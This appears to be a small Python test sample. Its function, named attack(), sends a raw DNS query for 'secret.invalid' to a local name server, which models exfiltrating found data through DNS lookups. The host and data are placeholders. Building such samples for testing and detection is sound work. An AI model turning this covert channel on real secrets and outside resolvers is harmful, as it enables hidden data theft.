"""Sends what it found as a question to a name server."""
import socket

def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1", ("127.0.0.1", 53))
